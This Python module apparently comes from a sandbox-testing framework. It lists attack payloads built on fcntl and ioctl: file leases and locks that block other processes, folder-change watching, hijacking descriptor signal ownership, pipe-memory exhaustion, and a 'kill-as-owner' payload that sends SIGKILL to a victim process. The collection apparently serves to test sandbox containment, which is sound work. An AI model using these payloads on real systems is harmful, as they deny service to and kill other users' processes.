"""Attacks that use a descriptor beyond reading and writing: leases, locks, owners, notifications.

They block other processes that open a file, or make the kernel send signals to any process.
"""

from __future__ import annotations

from coevo_gym.sandbox.attacks.host import done
from coevo_gym.sandbox.attacks.payload import payloads

_ATTACKS = """
## write-lease: take a lease on a file that may be read, for which who writes it has to wait
fcntl.fcntl(os.open(host.given, os.O_RDONLY), 1024, fcntl.F_RDLCK)

## read-lease: take a lease on a file that may be read, for which who reads it has to wait
fcntl.fcntl(os.open(host.given, os.O_RDONLY), 1024, fcntl.F_WRLCK)

## file-lock: lock a file that may be read
fcntl.flock(os.open(host.given, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)

## record-lock: lock a part of a file that may be read
import struct
file, lock = os.open(host.given, os.O_RDONLY), struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0)
any_way(*(lambda how=how: fcntl.fcntl(file, how, lock) for how in (6, 7, 37, 38)))

## folder-notice: be told what the host does in a folder that may be read (F_NOTIFY)
fcntl.fcntl(os.open(os.path.dirname(host.given), os.O_RDONLY), 1026, 1)

## owner: name who gets a descriptor's signals (itself)
import struct
reading, me = os.pipe()[0], struct.pack("i", os.getpid())
any_way(lambda: fcntl.fcntl(reading, 8, os.getpid()),
        lambda: fcntl.fcntl(reading, 15, struct.pack("2i", 1, os.getpid())),
        *(lambda how=how: fcntl.ioctl(host.stream, how, me) for how in (0x8901, 0x8902)))

## signals: have a descriptor send signals, of a kind of one's own
import struct
reading = os.pipe()[0]
any_way(lambda: fcntl.fcntl(reading, 10, signal.SIGKILL),
        lambda: fcntl.fcntl(reading, 4, 0x2000),
        lambda: fcntl.ioctl(reading, 0x5452, struct.pack("i", 1)))

## size-of-a-pipe: take more of the memory that a user's pipes share
fcntl.fcntl(os.pipe()[0], 1031, 1 << 18)

## hint-of-a-file: tell the kernel how long a file that may be read will live
fcntl.fcntl(os.open(host.given, os.O_RDONLY), 1036, bytes([2, 0, 0, 0, 0, 0, 0, 0]))

## kill-as-owner: kill the victim, as the owner of a pipe that something comes through
reading, writing = os.pipe()
fcntl.fcntl(reading, 8, host.victim)
fcntl.fcntl(reading, 10, signal.SIGKILL)
fcntl.fcntl(reading, 4, 0x2000)
os.write(writing, b"x")
"""

PAYLOADS = payloads(
    _ATTACKS,
    done,
    before="import fcntl\n",
    after="\nsay('DONE')",
    signs={"kill-as-owner": lambda seen: not seen.host.victim_lives()},
)
